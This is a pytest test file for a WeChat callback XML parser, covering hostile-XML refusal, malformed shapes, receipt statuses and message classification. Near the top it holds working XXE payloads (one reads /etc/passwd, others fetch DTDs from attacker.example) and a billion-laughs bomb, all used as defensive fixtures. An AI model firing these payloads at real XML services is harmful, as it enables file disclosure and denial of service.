"""Callback XML: hostile documents are refused; every push type is classified and deduped."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from wechat import (
    CallbackFieldError,
    CallbackMessage,
    CallbackXMLError,
    XMLForbiddenError,
    XMLShapeError,
    XMLSyntaxError,
    XMLTooLargeError,
    encrypted_field,
    normalise_receipt_status,
    parse_message,
    parse_xml,
    to_xml,
)

OPENID = "oia2TjuEGTNoeX76QEjQNrcURxG8"
BASE = {"ToUserName": "gh_7f083739789a", "FromUserName": OPENID, "CreateTime": 1395658920}


def push(**fields: str | int) -> bytes:
    return to_xml({**BASE, **fields})


# -- hostile and malformed XML ---------------------------------------------------------------

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<xml><ToUserName>&xxe;</ToUserName></xml>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<xml><Content>&lol4;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.example/evil.dtd">
<xml><Content>hi</Content></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<xml/>"""

INTERNAL_ENTITY = b"""<!DOCTYPE xml [<!ENTITY name "value">]><xml><A>&name;</A></xml>"""

BARE_DTD = b"""<!DOCTYPE xml><xml><A>1</A></xml>"""


@pytest.mark.parametrize(
    "body",
    [XXE_FILE, BILLION_LAUGHS, EXTERNAL_DTD, PARAMETER_ENTITY, INTERNAL_ENTITY, BARE_DTD],
    ids=["xxe-file", "billion-laughs", "external-dtd", "parameter-entity", "entity", "bare-dtd"],
)
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(XMLForbiddenError) as info:
        parse_xml(body)
    assert isinstance(info.value, CallbackXMLError)
    assert info.value.http_status == 400
    assert "passwd" not in str(info.value)


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"not xml at all",
        b"<xml><A>1</A>",
        b"<xml><A>1</B></xml>",
        b"<xml><A>&undefined;</A></xml>",
        b"<xml></xml><xml></xml>",
        b"<xml><A>\xff\xfe</A></xml>",
    ],
    ids=["empty", "text", "unclosed", "mismatched", "undefined-entity", "two-roots", "bad-utf8"],
)
def test_malformed_xml_is_refused(body: bytes) -> None:
    with pytest.raises(XMLSyntaxError) as info:
        parse_xml(body)
    assert info.value.reason == "malformed"


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"<root><A>1</A></root>", "root"),
        (b"<XML><A>1</A></XML>", "root"),
        (b"<xml><A><B>1</B></A></xml>", "nested"),
        (b"<xml><ScanCodeInfo><ScanType>qrcode</ScanType></ScanCodeInfo></xml>", "nested"),
        (b"<xml><Encrypt>a</Encrypt><Encrypt>b</Encrypt></xml>", "duplicate"),
        (b"<xml>stray<A>1</A></xml>", "mixed"),
        (b"<xml><A>1</A>stray</xml>", "mixed"),
    ],
)
def test_unexpected_shapes_are_refused(body: bytes, reason: str) -> None:
    with pytest.raises(XMLShapeError) as info:
        parse_xml(body)
    assert info.value.reason == reason


def test_oversized_body_is_refused_unparsed() -> None:
    with pytest.raises(XMLTooLargeError) as info:
        parse_xml(b"<xml>" + b" " * 200_000 + b"</xml>")
    assert info.value.http_status == 413
    assert parse_xml(b"<xml><A>1</A></xml>", max_bytes=20) == {"A": "1"}


def test_flat_document_parses_with_cdata_whitespace_and_declaration() -> None:
    body = (
        b'<?xml version="1.0" encoding="utf-8"?>\n<xml>\n'
        b"  <ToUserName><![CDATA[gh_1]]></ToUserName>\n"
        b"  <Content><![CDATA[ a <b> & c ]]></Content>\n"
        b"  <CreateTime>1700000000</CreateTime>\n"
        b"  <Empty></Empty><Self/>\n"
        b"  <!-- a comment -->\n"
        b"</xml>"
    )
    assert parse_xml(body) == {
        "ToUserName": "gh_1",
        "Content": " a <b> & c ",
        "CreateTime": "1700000000",
        "Empty": "",
        "Self": "",
    }


# -- building pushes -------------------------------------------------------------------------


def test_to_xml_round_trips_strings_ints_and_awkward_text() -> None:
    fields = {
        "ToUserName": "gh_1",
        "Content": "中文 ]]> <tag> & ✓",
        "CreateTime": 1700000000,
        "MsgId": 2**63 - 1,
    }
    body = to_xml(fields)
    assert body.startswith(b"<xml><ToUserName><![CDATA[gh_1]]></ToUserName>")
    assert b"<CreateTime>1700000000</CreateTime>" in body
    assert parse_xml(body) == {name: str(value) for name, value in fields.items()}


@pytest.mark.parametrize("name", ["", "a b", "x>y", "1abc", "名字"])
def test_to_xml_refuses_bad_names(name: str) -> None:
    with pytest.raises(ValueError, match="element name"):
        to_xml({name: "v"})


@pytest.mark.parametrize("value", [True, 1.5, None, b"bytes"])
def test_to_xml_refuses_other_types(value: object) -> None:
    with pytest.raises(TypeError):
        to_xml({"A": value})  # type: ignore[dict-item]


def test_encrypted_field() -> None:
    assert encrypted_field({"ToUserName": "gh", "Encrypt": "QUJD"}) == "QUJD"
    for fields in ({"ToUserName": "gh"}, {"Encrypt": ""}, {"Encrypt": "  "}):
        with pytest.raises(CallbackFieldError):
            encrypted_field(fields)


# -- receipts ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("success", "delivered"),
        ("SUCCESS", "delivered"),
        (" success\n", "delivered"),
        ("failed:user block", "user_block"),
        ("failed: user block", "user_block"),
        ("failed:  user  block", "user_block"),
        ("Failed:User Block", "user_block"),
        ("failed :userblock", "user_block"),
        ("failed: system failed", "system_failed"),
        ("failed:system failed", "system_failed"),
        ("FAILED: SYSTEM FAILED", "system_failed"),
        ("failed", "system_failed"),
        ("something new", "system_failed"),
        ("", "system_failed"),
        (None, "system_failed"),
    ],
)
def test_receipt_status_spellings(raw: str | None, expected: str) -> None:
    assert normalise_receipt_status(raw) == expected
    fields: dict[str, str | int] = {
        "MsgType": "event",
        "Event": "TEMPLATESENDJOBFINISH",
        "MsgID": 200163836,
    }
    if raw is not None:
        fields["Status"] = raw
    message = parse_message(push(**fields))
    assert message.kind == "receipt"
    assert message.receipt_status == expected
    assert message.receipt_status_raw == raw
    assert message.interaction_kind is None
    assert message.msg_id == 200163836
    assert message.dedupe_key == "receipt:200163836"


def test_receipt_msgid_above_2_pow_53_survives_as_int() -> None:
    big = 2**53 + 1
    message = parse_message(
        push(MsgType="event", Event="TEMPLATESENDJOBFINISH", MsgID=big, Status="success")
    )
    assert message.msg_id == big
    assert isinstance(message.msg_id, int)
    assert message.dedupe_key == f"receipt:{big}"


def test_user_message_msgid_above_2_pow_53_survives_as_int() -> None:
    big = 2**63 - 7
    message = parse_message(push(MsgType="text", Content="hi", MsgId=big))
    assert message.msg_id == big
    assert message.dedupe_key == f"msg:{big}"


def test_receipt_status_is_none_for_other_pushes() -> None:
    message = parse_message(push(MsgType="text", Content="hi", MsgId=1, Status="success"))
    assert message.receipt_status is None


# -- classification ------------------------------------------------------------------------

T = 1395658920


@pytest.mark.parametrize(
    ("fields", "kind", "interaction", "dedupe"),
    [
        (
            {"MsgType": "text", "Content": "hi", "MsgId": 11},
            "interaction",
            "message:text",
            "msg:11",
        ),
        ({"MsgType": "image", "MsgId": 12}, "interaction", "message:image", "msg:12"),
        ({"MsgType": "voice", "MsgId": 13}, "interaction", "message:voice", "msg:13"),
        ({"MsgType": "video", "MsgId": 14}, "interaction", "message:video", "msg:14"),
        ({"MsgType": "shortvideo", "MsgId": 15}, "interaction", "message:shortvideo", "msg:15"),
        ({"MsgType": "location", "MsgId": 16}, "interaction", "message:location", "msg:16"),
        ({"MsgType": "link", "MsgId": 17}, "interaction", "message:link", "msg:17"),
        (
            {"MsgType": "miniprogrampage", "MsgId": 18},
            "interaction",
            "message:miniprogrampage",
            "msg:18",
        ),
        ({"MsgType": "TEXT", "MsgId": 19}, "interaction", "message:text", "msg:19"),
        ({"MsgType": "hologram", "MsgId": 20}, "other", None, "msg:20"),
        ({"MsgType": "text"}, "interaction", "message:text", f"msg:{OPENID}:{T}:text"),
        (
            {"MsgType": "event", "Event": "CLICK", "EventKey": "V1001"},
            "interaction",
            "click_menu",
            f"event:{OPENID}:{T}:click",
        ),
        (
            {"MsgType": "event", "Event": "scancode_push", "EventKey": "k"},
            "interaction",
            "scancode",
            f"event:{OPENID}:{T}:scancode_push",
        ),
        (
            {"MsgType": "event", "Event": "scancode_waitmsg", "EventKey": "k"},
            "interaction",
            "scancode",
            f"event:{OPENID}:{T}:scancode_waitmsg",
        ),
        (
            {"MsgType": "event", "Event": "subscribe"},
            "subscribe",
            "subscribe",
            f"event:{OPENID}:{T}:subscribe",
        ),
        (
            {"MsgType": "event", "Event": "subscribe", "EventKey": "qrscene_123", "Ticket": "t"},
            "subscribe",
            "subscribe",
            f"event:{OPENID}:{T}:subscribe",
        ),
        (
            {"MsgType": "event", "Event": "SCAN", "EventKey": "123", "Ticket": "t"},
            "interaction",
            "scan",
            f"event:{OPENID}:{T}:scan",
        ),
        (
            {"MsgType": "event", "Event": "unsubscribe"},
            "unsubscribe",
            None,
            f"event:{OPENID}:{T}:unsubscribe",
        ),
        (
            {"MsgType": "event", "Event": "VIEW", "EventKey": "https://example.com"},
            "other",
            None,
            f"event:{OPENID}:{T}:view",
        ),
        (
            {"MsgType": "event", "Event": "LOCATION", "Latitude": "23.1", "Longitude": "113.3"},
            "other",
            None,
            f"event:{OPENID}:{T}:location",
        ),
        (
            {"MsgType": "event", "Event": "MASSSENDJOBFINISH", "MsgID": 1000001625},
            "other",
            None,
            f"event:{OPENID}:{T}:masssendjobfinish",
        ),
        (
            {"MsgType": "event", "Event": "subscribe_msg_popup_event"},
            "other",
            None,
            f"event:{OPENID}:{T}:subscribe_msg_popup_event",
        ),
        (
            {"MsgType": "event", "Event": "subscribe_msg_change_event"},
            "other",
            None,
            f"event:{OPENID}:{T}:subscribe_msg_change_event",
        ),
        (
            {"MsgType": "event", "Event": "subscribe_msg_sent_event"},
            "other",
            None,
            f"event:{OPENID}:{T}:subscribe_msg_sent_event",
        ),
        (
            {"MsgType": "event", "Event": "view_miniprogram", "EventKey": "pages/x"},
            "other",
            None,
            f"event:{OPENID}:{T}:view_miniprogram",
        ),
        (
            {"MsgType": "event", "Event": "pic_sysphoto", "EventKey": "k"},
            "other",
            None,
            f"event:{OPENID}:{T}:pic_sysphoto",
        ),
        ({"MsgType": "event"}, "other", None, f"event:{OPENID}:{T}:"),
        (
            {"MsgType": "event", "Event": "TEMPLATESENDJOBFINISH", "Status": "success"},
            "receipt",
            None,
            f"event:{OPENID}:{T}:templatesendjobfinish",
        ),
    ],
)
def test_classification(
    fields: dict[str, str | int], kind: str, interaction: str | None, dedupe: str
) -> None:
    message = parse_message(push(**fields))
    assert message.kind == kind
    assert message.interaction_kind == interaction
    assert message.dedupe_key == dedupe
    if interaction is not None:
        assert len(interaction) < 32
    assert len(message.dedupe_key) < 128


def test_message_fields_and_times() -> None:
    message = parse_message(push(MsgType="event", Event="CLICK", EventKey="MENU_1", Extra="kept"))
    assert message.to_user == "gh_7f083739789a"
    assert message.openid == OPENID
    assert message.create_time == T
    assert message.created_at == datetime(2014, 3, 24, 11, 2, tzinfo=UTC)
    assert message.created_at.tzinfo is not None
    assert message.msg_type == "event"
    assert message.event == "CLICK"
    assert message.event_lower == "click"
    assert message.event_key == "MENU_1"
    assert message.msg_id is None
    assert message.fields["Extra"] == "kept"


def test_retries_give_the_same_dedupe_key_and_equal_messages() -> None:
    body = push(MsgType="event", Event="subscribe")
    first, retry = parse_message(body), parse_message(body)
    assert first == retry
    assert hash(first) == hash(retry)
    assert first.dedupe_key == retry.dedupe_key
    later = parse_message(
        to_xml({**BASE, "CreateTime": T + 1, "MsgType": "event", "Event": "subscribe"})
    )
    assert later.dedupe_key != first.dedupe_key


def test_msgid_spellings_both_accepted() -> None:
    assert parse_message(push(MsgType="text", MsgId=5)).msg_id == 5
    assert parse_message(push(MsgType="event", Event="TEMPLATESENDJOBFINISH", MsgID=6)).msg_id == 6


def test_repr_keeps_user_text_out() -> None:
    message = parse_message(push(MsgType="text", Content="my phone is 13800000000", MsgId=1))
    assert "13800000000" not in repr(message)
    assert message.fields["Content"] == "my phone is 13800000000"


def test_fields_are_read_only() -> None:
    message = parse_message(push(MsgType="text", MsgId=1))
    with pytest.raises(TypeError):
        message.fields["MsgType"] = "x"  # type: ignore[index]


@pytest.mark.parametrize("missing", ["ToUserName", "FromUserName", "CreateTime", "MsgType"])
def test_required_fields(missing: str) -> None:
    fields: dict[str, str | int] = {**BASE, "MsgType": "text", "MsgId": 1}
    del fields[missing]
    with pytest.raises(CallbackFieldError, match=missing) as info:
        parse_message(to_xml(fields))
    assert info.value.reason == "missing"


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("CreateTime", "yesterday"),
        ("CreateTime", "-5"),
        ("CreateTime", "1e9"),
        ("MsgId", "12x"),
        ("MsgID", "0x10"),
        ("CreateTime", "99999999999999999999"),
        ("CreateTime", "١٢٣"),
    ],
)
def test_numeric_fields_must_be_numbers(name: str, value: str) -> None:
    fields: dict[str, str | int] = {**BASE, "MsgType": "text", name: value}
    with pytest.raises(CallbackFieldError) as info:
        parse_message(to_xml(fields))
    assert info.value.reason == "number"


def test_hostile_xml_is_refused_by_parse_message_too() -> None:
    with pytest.raises(XMLForbiddenError):
        parse_message(BILLION_LAUGHS)


def test_direct_construction_validates_create_time() -> None:
    with pytest.raises(CallbackFieldError):
        CallbackMessage(to_user="gh", openid=OPENID, create_time=-1, msg_type="text")
